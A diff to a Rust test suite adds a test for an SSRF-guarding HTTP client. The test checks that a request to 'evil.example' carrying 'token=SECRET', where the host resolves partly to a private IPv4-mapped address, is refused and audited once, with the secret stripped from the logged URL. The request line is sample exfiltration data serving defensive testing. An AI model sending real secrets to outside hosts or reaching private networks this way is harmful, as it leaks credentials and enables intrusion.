@@ -460,3 +460,29 @@ async fn hostile_requests_are_refused_before_any_connection() {
         );
     }
 }
+
+#[tokio::test]
+async fn connect_time_refusal_is_audited_once_with_the_context() {
+    let events = Arc::new(Mutex::new(Vec::<NetEvent>::new()));
+    let sink = Arc::clone(&events);
+    let audit: Arc<dyn NetAudit> =
+        Arc::new(move |e: &NetEvent| sink.lock().unwrap().push(e.clone()));
+    let c = GuardedClient::with_resolver(
+        SsrfPolicy::default(),
+        ClientConfig::default(),
+        TableResolver::with(&[("evil.example", &[&["8.8.8.8", "::ffff:10.0.0.1"]])]),
+        audit,
+    )
+    .unwrap();
+    let mut req = FetchRequest::get("https://evil.example/x?token=SECRET");
+    req.context = Some(EgressContext::new("a", "t"));
+    let e = c.fetch(req).await.unwrap_err();
+    assert_eq!(finding(&e), "private");
+    let events = events.lock().unwrap();
+    assert_eq!(events.len(), 1, "{events:?}");
+    let NetEvent::BlockedEgress { context, url, .. } = &events[0] else {
+        panic!()
+    };
+    assert_eq!(context.agent_id, "a");
+    assert_eq!(url, "https://evil.example/x");
+}
